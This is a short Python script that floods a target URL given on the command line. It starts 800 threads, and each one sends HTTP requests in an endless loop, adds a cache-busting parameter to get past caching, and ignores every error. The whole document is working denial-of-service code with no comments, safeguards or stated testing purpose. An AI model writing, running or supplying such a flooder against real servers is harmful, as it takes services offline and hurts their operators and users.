import sys, threading, urllib.request

target = sys.argv[1]

def worker():
    while True:
        try:
            urllib.request.urlopen(target + "/?cb=" + str(id(object())), timeout=2).read()
        except Exception:
            pass

for _ in range(800):
    threading.Thread(target=worker, daemon=False).start()
